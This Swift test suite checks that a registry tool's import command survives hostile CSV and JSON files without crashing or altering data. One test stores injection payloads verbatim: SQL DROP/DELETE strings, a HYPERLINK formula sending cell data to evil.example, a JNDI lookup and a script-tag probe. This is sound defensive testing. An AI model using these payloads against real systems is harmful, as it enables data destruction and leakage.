import Database
import Foundation
import TestSupport
import XCTest

/// Hostile files imported into a seeded registry through the real binary.
/// Each one gives a clear error (exit 65, the registry's content unchanged)
/// or is stored verbatim; none crashes the process. The big files are made
/// here at run time, never committed.
final class HostileInputTests: XCTestCase {
    var folder: TemporaryDirectory!
    var registry: String!
    var seededDump: String!

    /// The seeded registry is made once and copied for each test.
    static let template: Result<URL, Error> = Result {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("partnerships-hostile-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let path = folder.appendingPathComponent("seeded.sqlite")
        let result = try CLIRunner.run(["init", "--db", path.path])
        guard result.status == 0 else { throw CommandError(result: result) }
        return path
    }

    struct CommandError: Error, CustomStringConvertible {
        let result: CLIResult
        var description: String { "exit \(result.status): \(result.stderr)" }
    }

    override class func tearDown() {
        if case .success(let path) = template { try? FileManager.default.removeItem(at: path.deletingLastPathComponent()) }
    }

    override func setUpWithError() throws {
        folder = try TemporaryDirectory()
        registry = folder.path("r.sqlite")
        try FileManager.default.copyItem(at: try Self.template.get(), to: URL(fileURLWithPath: registry))
        seededDump = try RegistryDump.of(registry)
    }

    override func tearDown() { folder = nil }

    // MARK: Helpers

    @discardableResult
    private func importFile(_ kind: String, _ name: String, _ data: Data, _ extra: [String] = []) throws -> CLIResult {
        let path = folder.path(name)
        try data.write(to: URL(fileURLWithPath: path))
        return try CLIRunner.run(["import", kind, path, "--db", registry] + extra)
    }

    private func csv(_ text: String) -> Data { Data(text.utf8) }

    /// No crash: the process exited by itself, and wrote no trap or backtrace.
    private func assertNoCrash(_ result: CLIResult, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertFalse([70, 132, 133, 134, 137, 139].contains(result.status), "crashed: \(result.status) \(result.stderr.prefix(2000))",
                       file: file, line: line)
        for sign in ["Fatal error", "Backtrace", "Stack dump", "Segmentation", "Illegal instruction", "💣"] {
            XCTAssertFalse(result.stderr.contains(sign), "\(sign): \(result.stderr.prefix(2000))", file: file, line: line)
        }
    }

    /// Exit 65, a message that says what is wrong, and not one row changed.
    private func assertRejected(_ result: CLIResult, mentions expected: [String], file: StaticString = #filePath,
                                line: UInt = #line) throws {
        assertNoCrash(result, file: file, line: line)
        XCTAssertEqual(result.status, 65, result.stderr.prefix(2000).description, file: file, line: line)
        for text in expected {
            XCTAssertTrue(result.stderr.localizedCaseInsensitiveContains(text),
                          "expected '\(text)' in: \(result.stderr.prefix(2000))", file: file, line: line)
        }
        XCTAssertLessThan(result.stderr.split(separator: "\n").count, 110, "at most 100 errors and a count", file: file, line: line)
        XCTAssertEqual(try RegistryDump.of(registry), seededDump, "a rejected file changed the registry", file: file, line: line)
    }

    private func scalar(_ sql: String, _ arguments: [DatabaseValueConvertible] = []) throws -> DatabaseValue? {
        try Connection(path: registry, configuration: .init(mode: .readOnly)).scalar(sql, arguments)
    }

    static let agreementHeader = "key,title,kind,parties,signed_on,notes\n"

    // MARK: CSV structure

    func testUnterminatedQuote() throws {
        let result = try importFile("agreements", "a.csv", csv(Self.agreementHeader
            + "ok-1,Fine,mou,maastricht-university;uc-irvine,,\n"
            + "bad-1,\"Never closed,mou,maastricht-university;uc-irvine,,\nok-2,Fine,mou,maastricht-university;uc-irvine,,\n"))
        try assertRejected(result, mentions: ["a.csv:3", "unterminated quoted field"])
    }

    func testRaggedRows() throws {
        let result = try importFile("agreements", "a.csv", csv(Self.agreementHeader
            + "ok-1,Fine,mou,maastricht-university;uc-irvine,,\n"
            + "bad-1,Too many,mou,maastricht-university;uc-irvine,,,extra\n"
            + "bad-2,Too few\n"))
        try assertRejected(result, mentions: ["a.csv:3: the row has 7 fields, the header has 6", "a.csv:4: the row has 2 fields"])
    }

    func testNULBytes() throws {
        let result = try importFile("agreements", "a.csv", csv(Self.agreementHeader
            + "nul-1,Title with \u{0} inside,mou,maastricht-university;uc-irvine,,\n"))
        try assertRejected(result, mentions: ["a.csv:2: column 'title'", "NUL byte"])
    }

    func testInvalidUTF8() throws {
        var data = csv(Self.agreementHeader + "utf-1,Caf")
        data.append(contentsOf: [0xC3, 0x28, 0xFF])
        data.append(csv(",mou,maastricht-university;uc-irvine,,\n"))
        try assertRejected(try importFile("agreements", "a.csv", data), mentions: ["a.csv:2: column 'title'", "not valid UTF-8"])
    }

    func testUTF16WithBOMSaysSaveAsUTF8() throws {
        var data = Data([0xFF, 0xFE])
        let text = Self.agreementHeader + "u16-1,Title,mou,maastricht-university;uc-irvine,,\n"
        for unit in text.utf16 { data.append(contentsOf: [UInt8(unit & 0xFF), UInt8(unit >> 8)]) }
        try assertRejected(try importFile("agreements", "a.csv", data), mentions: ["a.csv:1: the file is UTF-16; save it as UTF-8"])
        var bigEndian = Data([0xFE, 0xFF])
        for unit in text.utf16 { bigEndian.append(contentsOf: [UInt8(unit >> 8), UInt8(unit & 0xFF)]) }
        try assertRejected(try importFile("agreements", "b.json", bigEndian), mentions: ["UTF-16", "UTF-8"])
    }

    func testBOMOnlyAndEmptyFilesAreRejectedAndAHeaderOnlyFileImportsNothing() throws {
        for (name, data) in [("bom.csv", Data([0xEF, 0xBB, 0xBF])), ("empty.csv", Data()), ("empty.json", Data()),
                             ("empty.ndjson", Data())] {
            let result = try importFile("agreements", name, data)
            assertNoCrash(result)
            XCTAssertTrue([0, 65].contains(result.status), "\(name): \(result.status) \(result.stderr)")
            XCTAssertFalse(result.stderr.isEmpty && result.stdout.isEmpty, "\(name): says something")
            XCTAssertEqual(try RegistryDump.of(registry), seededDump, name)
        }
        try assertRejected(try importFile("agreements", "bom2.csv", Data([0xEF, 0xBB, 0xBF])),
                           mentions: ["bom2.csv:1: the file is empty"])
        for (name, data) in [("header.csv", csv(Self.agreementHeader)), ("array.json", csv("[]"))] {
            let result = try importFile("agreements", name, data)
            XCTAssertEqual(result.status, 0, "\(name): \(result.stderr)")
            XCTAssertTrue(result.stdout.contains("0 rows: 0 inserted"), "\(name): \(result.stdout)")
            XCTAssertEqual(try RegistryDump.of(registry), seededDump, name)
        }
    }

    func testDuplicatedHeaderNames() throws {
        let result = try importFile("agreements", "a.csv", csv(
            "key,title,kind,parties,Title\nd-1,One,mou,maastricht-university;uc-irvine,Two\n"))
        try assertRejected(result, mentions: ["column 'title': appears twice"])
    }

    // MARK: Size

    func testATenMegabyteField() throws {
        let big = String(repeating: "x", count: 10 << 20)
        let result = try importFile("agreements", "a.csv", csv(Self.agreementHeader
            + "big-1,Big notes,mou,maastricht-university;uc-irvine,,\"\(big)\"\n"))
        assertNoCrash(result)
        XCTAssertEqual(result.status, 0, result.stderr)
        XCTAssertEqual(try scalar("SELECT notes = ? FROM agreements WHERE key = 'big-1'", [big])?.int64, 1, "stored verbatim")
    }

    func testAHundredThousandColumns() throws {
        var header = Self.agreementHeader.dropLast().description
        header += (0..<100_000).map { ",extra\($0)" }.joined() + "\n"
        let result = try importFile("agreements", "a.csv", csv(header + "w-1,Wide,mou,maastricht-university;uc-irvine,,"
            + String(repeating: ",", count: 100_000) + "\n"))
        try assertRejected(result, mentions: ["unknown columns 'extra0'", "99995 more", "known columns are"])
        let ragged = try importFile("agreements", "b.csv", csv(Self.agreementHeader + "w-2,Wide,mou,a;b,,"
            + String(repeating: ",x", count: 100_000) + "\n"))
        try assertRejected(ragged, mentions: ["b.csv:2: the row has 100006 fields, the header has 6"])
    }

    func testExtremelyLongLines() throws {
        // One line of 8 MB (a quoted title full of commas and quotes), then a
        // line with no end of line at all.
        let title = String(repeating: "a,\"\"b", count: (8 << 20) / 5)
        let result = try importFile("agreements", "a.csv", csv(Self.agreementHeader
            + "long-1,\"\(title)\",mou,maastricht-university;uc-irvine,,\n"
            + "long-2,Last line without a newline,mou,maastricht-university;uc-irvine,,"))
        assertNoCrash(result)
        XCTAssertEqual(result.status, 0, result.stderr)
        let stored = title.replacingOccurrences(of: "\"\"", with: "\"")
        XCTAssertEqual(try scalar("SELECT title = ? FROM agreements WHERE key = 'long-1'", [stored])?.int64, 1, "stored verbatim")
        XCTAssertEqual(try scalar("SELECT count(*) FROM agreements WHERE key = 'long-2'")?.int64, 1)
    }

    // MARK: Content stored verbatim

    func testSQLAndFormulaLookingTextIsStoredVerbatim() throws {
        let hostile = [
            "'); DROP TABLE agreements;--",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1+1", "-2+3", "@SUM(A1)", "\tstarts with a tab", "Robert'); DELETE FROM institutions; --",
            "\"quoted\" and 'single'", "%s%s%n", "${jndi:ldap://x}", "<script>alert(1)</script>",
        ]
        var text = Self.agreementHeader
        for (index, value) in hostile.enumerated() {
            let quoted = "\"" + value.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            text += "hostile-\(index),\(quoted),mou,maastricht-university;uc-irvine,,\(quoted)\n"
        }
        let result = try importFile("agreements", "a.csv", csv(text))
        assertNoCrash(result)
        XCTAssertEqual(result.status, 0, result.stderr)
        for (index, value) in hostile.enumerated() {
            XCTAssertEqual(try scalar("SELECT title FROM agreements WHERE key = ?", ["hostile-\(index)"])?.string,
                           value.trimmingCharacters(in: .whitespaces), "title \(index)")
            XCTAssertEqual(try scalar("SELECT notes FROM agreements WHERE key = ?", ["hostile-\(index)"])?.string,
                           value.trimmingCharacters(in: .whitespaces), "notes \(index)")
        }
        XCTAssertEqual(try scalar("PRAGMA integrity_check")?.string, "ok")
        XCTAssertGreaterThan(try scalar("SELECT count(*) FROM institutions")?.int64 ?? 0, 0)
    }

    func testImpossibleDatesAreRejected() throws {
        for (name, date) in [("leap.csv", "2019-02-29"), ("zero.csv", "0000-01-01"), ("month.csv", "2019-13"),
                             ("day.csv", "2019-04-31"), ("year.csv", "0000")] {
            let result = try importFile("agreements", name, csv(Self.agreementHeader
                + "date-1,Dated,mou,maastricht-university;uc-irvine,\(date),\n"))
            try assertRejected(result, mentions: ["\(name):2", "signed_on"])
        }
        let leap = try importFile("agreements", "ok.csv", csv(Self.agreementHeader
            + "date-2,Leap day,mou,maastricht-university;uc-irvine,2020-02-29,\n"))
        XCTAssertEqual(leap.status, 0, leap.stderr)
    }

    // MARK: JSON

    func testJSONWithWrongTypes() throws {
        let json = """
            [
              {"key": "j-1", "title": 42, "kind": "mou", "parties": "maastricht-university;uc-irvine"},
              {"key": "j-2", "title": "T", "kind": ["mou"], "parties": "maastricht-university;uc-irvine"},
              {"key": "j-3", "title": "T", "kind": "mou", "parties": {"a": 1}},
              {"key": "j-4", "title": null, "kind": "mou", "parties": "maastricht-university;uc-irvine"},
              {"key": "j-5", "title": "T", "kind": "mou", "parties": "maastricht-university;uc-irvine", "signed_on": 2018}
            ]
            """
        try assertRejected(try importFile("agreements", "a.json", csv(json)), mentions: ["title", "kind", "parties"])
        try assertRejected(try importFile("agreements", "b.json", csv("{\"key\": \"not-an-array\"}")), mentions: ["b.json"])
        try assertRejected(try importFile("agreements", "c.json", csv("[1, \"two\", null, true]")), mentions: ["c.json"])
        try assertRejected(try importFile("agreements", "d.ndjson", csv("{\"key\": \"n-1\"}\n[]\n42\n")), mentions: ["d.ndjson"])
    }

    func testDeeplyNestedJSON() throws {
        let deep = String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)
        try assertRejected(try importFile("agreements", "a.json", csv(deep)), mentions: ["a.json:1", "nested more than"])
        let deepObject = "[{\"key\": " + String(repeating: "{\"a\":", count: 100_000) + "1" + String(repeating: "}", count: 100_000) + "}]"
        try assertRejected(try importFile("agreements", "b.json", csv(deepObject)), mentions: ["b.json"])
        let unclosed = String(repeating: "[", count: 100_000)
        try assertRejected(try importFile("agreements", "c.ndjson", csv(unclosed)), mentions: ["c.ndjson"])
    }

    func testAMillionEmptyObjects() throws {
        var text = "["
        text.reserveCapacity(3_000_002)
        text += Array(repeating: "{}", count: 1_000_000).joined(separator: ",")
        text += "]"
        let started = Date()
        let result = try importFile("agreements", "a.json", csv(text))
        try assertRejected(result, mentions: ["a.json", "title"])
        XCTAssertLessThan(Date().timeIntervalSince(started), 60)
    }
}
